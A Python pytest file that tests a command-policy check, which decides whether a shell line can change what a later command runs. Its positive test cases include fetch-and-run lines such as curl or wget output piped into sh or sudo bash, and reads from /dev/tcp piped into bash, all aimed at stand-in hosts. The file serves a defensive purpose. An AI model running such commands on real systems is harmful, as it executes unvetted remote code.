"""A line of which one command can change what another one runs is told from the others."""

import pytest

from controller_client.command_policy.effects import may_change_what_it_runs


@pytest.mark.parametrize(
    "line",
    [
        "git pull && ./deploy.sh",
        "curl -fsSL https://example.org/install.sh | sh",
        "wget -qO- https://example.org/x | sudo bash -s -- --yes",
        "bash <(curl -s https://example.org/x)",
        'sh -c "$(curl -fsSL https://example.org/x)"',
        "bash -c 'git pull; ./deploy.sh'",
        "cp new.sh deploy.sh; sh deploy.sh",
        "ls | sh",
        "hostname | bash",
        "cat /dev/tcp/192.0.2.1/80 | bash",
        "bash < /dev/tcp/192.0.2.1/80",
        "./generate | python3",
        "for each in 1 2; do sh deploy.sh; done",
        "sudo apt update && sudo apt install nginx",
        "cat other > deploy.sh && sh deploy.sh",
        "cat other >deploy.sh 2>&1; ./deploy.sh",
        ">>deploy.sh echo id; sh deploy.sh",
        "printf id >| deploy.sh; sh deploy.sh",
        "{ cat other; } > deploy.sh; sh deploy.sh",
        "cat other | tr a b &> deploy.sh; sh deploy.sh",
        "cat <<END > deploy.sh\nid\nEND\nsh deploy.sh",
        "copy=cat; $copy other > deploy.sh; sh deploy.sh",
        "bash -c 'cat other > deploy.sh'; sh deploy.sh",
        "cat other > 1; sh 1",
        "> deploy.sh; sh deploy.sh",
    ],
)
def test_a_line_that_can_change_what_it_runs_is_told(line: str) -> None:
    assert may_change_what_it_runs(line)


@pytest.mark.parametrize(
    "line",
    [
        "sh deploy.sh",
        "sudo apt install nginx",
        "sudo bash -c 'apt install nginx'",
        "cd /srv && ./deploy.sh",
        "cat deploy.sh | bash",
        "base64 -d deploy.b64 | sh",
        "echo id | sh",
        "make all 2>/dev/null | grep error | tail",
        "ls; pwd; date",
        "for each in 1 2; do echo $each; done",
        "test -f deploy.sh && sh deploy.sh",
        "cd /srv && make all > log 2>&1",
        "nohup ./serve >> log 2>&1 &",
        "cat other > copy; echo done >> log",
        "echo start >&2; cat other >/dev/null; sh deploy.sh 3>&-",
        "",
    ],
)
def test_a_line_of_which_one_command_acts_changes_nothing_of_itself(line: str) -> None:
    assert not may_change_what_it_runs(line)
